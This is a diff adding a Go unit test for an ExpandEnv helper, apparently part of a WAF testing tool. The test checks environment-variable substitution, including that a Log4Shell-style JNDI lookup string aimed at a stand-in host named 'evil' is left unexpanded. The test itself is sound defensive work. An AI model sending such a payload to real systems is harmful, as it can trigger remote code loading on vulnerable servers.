@@ -0,0 +1,28 @@
+package utils
+
+import (
+	"testing"
+)
+
+func TestExpandEnv(t *testing.T) {
+	t.Setenv("FTW_TEST_HOST", "waf.example.com")
+	t.Setenv("FTW_TEST_PORT", "8080")
+	t.Setenv("FTW_TEST_QUOTE", "a\"b: c\nd")
+
+	tests := map[string]string{
+		"${FTW_TEST_HOST}":                  "waf.example.com",
+		"${FTW_TEST_PORT}":                  "8080",
+		"${FTW_TEST_HOST}:${FTW_TEST_PORT}": "waf.example.com:8080",
+		"${FTW_TEST_UNSET}":                 "${FTW_TEST_UNSET}",
+		"${jndi:ldap://evil/a}":             "${jndi:ldap://evil/a}",
+		"$FTW_TEST_HOST":                    "$FTW_TEST_HOST",
+		"$${FTW_TEST_HOST}":                 "${FTW_TEST_HOST}",
+		"${FTW_TEST_QUOTE}":                 "a\"b: c\nd",
+	}
+
+	for input, expected := range tests {
+		if got := ExpandEnv(input); got != expected {
+			t.Errorf("ExpandEnv(%q) = %q, want %q", input, got, expected)
+		}
+	}
+}